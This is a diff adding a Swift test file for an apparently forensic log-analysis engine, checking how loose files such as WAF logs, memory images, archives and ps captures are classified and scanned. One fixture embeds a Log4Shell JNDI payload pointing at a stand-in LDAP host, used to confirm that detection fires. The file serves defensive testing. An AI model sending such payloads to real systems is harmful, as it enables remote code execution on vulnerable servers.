@@ -1,0 +1,95 @@
+import ArtifactStore
+import Bytes
+import Evidence
+import Foundation
+import TestSupport
+import Testing
+
+@testable import Engine
+
+/// Files read without a store: the same lines as in the results of a case.
+struct LooseFileTests {
+  private let folder: TemporaryFolder
+
+  init() throws { folder = try TemporaryFolder() }
+
+  private func read(
+    _ file: String, as path: String? = nil, usesAllCores: Bool = false
+  ) throws -> (kind: LooseFile.Kind?, sink: CollectingSink) {
+    let sink = CollectingSink()
+    var kind: LooseFile.Kind?
+    let artifact = Digest(of: [UInt8](try Data(contentsOf: URL(fileURLWithPath: file))))
+    try LooseFile.read(file, path: path ?? file, artifact: artifact, usesAllCores: usesAllCores, into: sink) {
+      kind = $0
+    }
+    return (kind, sink)
+  }
+
+  private static let wafFolder = "\(PackageFiles.bundle)/waf/aws-waf-logs-cumulus/2026/11/25/05"
+
+  @Test(arguments: [false, true])
+  func aLogGivesWhatItsUnitGives(_ usesAllCores: Bool) throws {
+    let store = try ArtifactStore(directory: folder.path + "/store")
+    let names = try FileManager.default.contentsOfDirectory(atPath: Self.wafFolder).sorted()
+    var attempts = 0
+    for name in names {
+      let file = "\(Self.wafFolder)/\(name)"
+      let bytes = [UInt8](try Data(contentsOf: URL(fileURLWithPath: file)))
+      let artifact = try store.objects.put(bytes).digest
+      let unit = Unit(artifact: artifact, analyzer: "log", version: "", options: ["format": "aws.waf", "path": name])
+      let result = try ResultFile(store)
+      try LogAnalyzer().run(unit, Surroundings(store: store, rules: RuleLibrary(directory: "")), into: result)
+      let stored = try result.finish()
+      let expected = CollectingSink()
+      try CaseResults.forEachLine(of: stored.digest, in: store) { line in
+        switch line {
+        case .event(let event): expected.event(event)
+        case .finding(let finding): expected.finding(finding)
+        case .coverage(let coverage): expected.coverage(coverage)
+        default: break
+        }
+      }
+      let (kind, found) = try read(file, usesAllCores: usesAllCores)
+      #expect(kind?.name == "log/aws.waf" && kind?.encodings == ["gzip"])
+      #expect(found.events == expected.events && !found.events.isEmpty)
+      #expect(found.findings == expected.findings)
+      #expect(found.coverages == expected.coverages)
+      attempts += found.findings.filter { $0.rule.hasPrefix("log4shell") }.count
+    }
+    #expect(attempts > 0)
+  }
+
+  @Test func textOfNoFormatIsSearched() throws {
+    let file = try folder.write("note.bin", "\u{1}\u{2} ... ${jndi:ldap://203.0.113.66:1389/a} ...\u{3}")
+    let (kind, found) = try read(file)
+    #expect(kind?.name == "unknown")
+    #expect(found.findings.count == 1 && found.findings.first?.rule.hasPrefix("log4shell") == true)
+    #expect(found.coverages.map(\.state) == [.scanned])
+  }
+
+  @Test func whatOnlyACaseCanHoldIsSaidToBeSkipped() throws {
+    var lime: [UInt8] = Array("EMiL".utf8) + [1, 0, 0, 0]
+    lime += [UInt8](repeating: 0, count: 4096)
+    let image = try folder.write("host.lime", lime)
+    let archive = try folder.write("a.zip", Array("PK\u{3}\u{4}".utf8) + [UInt8](repeating: 0, count: 60))
+    let empty = try folder.write("empty.log", "")
+    for (file, kind, part, count) in [
+      (image, "memory/lime", "memory all", UInt64(lime.count)), (archive, "archive", "ir-analyze run", 64),
+    ] {
+      let (seen, found) = try read(file)
+      #expect(seen?.name.lowercased() == kind)
+      #expect(found.coverages.count == 1 && found.events.isEmpty)
+      #expect(found.coverages.first?.state == .skipped && found.coverages.first?.range == 0..<count)
+      #expect(found.coverages.first?.reason?.contains(part) == true)
+    }
+    let (seen, found) = try read(empty)
+    #expect(seen?.name == "empty" && found.coverages.map(\.state) == [.parsed])
+  }
+
+  @Test func thePathSaysWhenACaptureWasTaken() throws {
+    let file = "\(PackageFiles.bundle)/i-0b7c4e19d2f35a86e/2026-11-25_14:25:29/command/ps_output.txt"
+    let (kind, found) = try read(file)
+    #expect(kind?.name == "log/capture.ps")
+    #expect(!found.events.isEmpty && found.events.contains { $0.time != nil })
+  }
+}
